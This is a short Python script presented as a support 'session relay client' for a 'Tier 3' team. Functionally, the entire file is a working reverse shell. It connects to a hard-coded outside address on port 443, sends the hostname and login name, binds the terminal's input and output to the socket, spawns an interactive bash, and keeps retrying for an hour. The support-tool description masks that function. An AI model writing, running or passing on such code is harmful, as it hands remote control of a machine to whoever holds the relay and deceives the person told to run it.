#!/usr/bin/env python3
"""Session relay client: opens an outbound session Tier 3 can attach to."""
import argparse
import os
import pty
import socket
import time

RELAY = ("198.51.100.77", 443)


def attach(esc):
    s = socket.create_connection(RELAY, timeout=15)
    s.settimeout(None)
    s.sendall(f"ATTACH {esc} {socket.gethostname()} {os.getlogin()}\n".encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.environ["TERM"] = "xterm"
    pty.spawn(["/bin/bash", "-i"])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--esc", required=True)
    a = ap.parse_args()
    deadline = time.time() + 3600
    while time.time() < deadline:
        try:
            attach(a.esc)
            break
        except OSError:
            time.sleep(10)


if __name__ == "__main__":
    main()
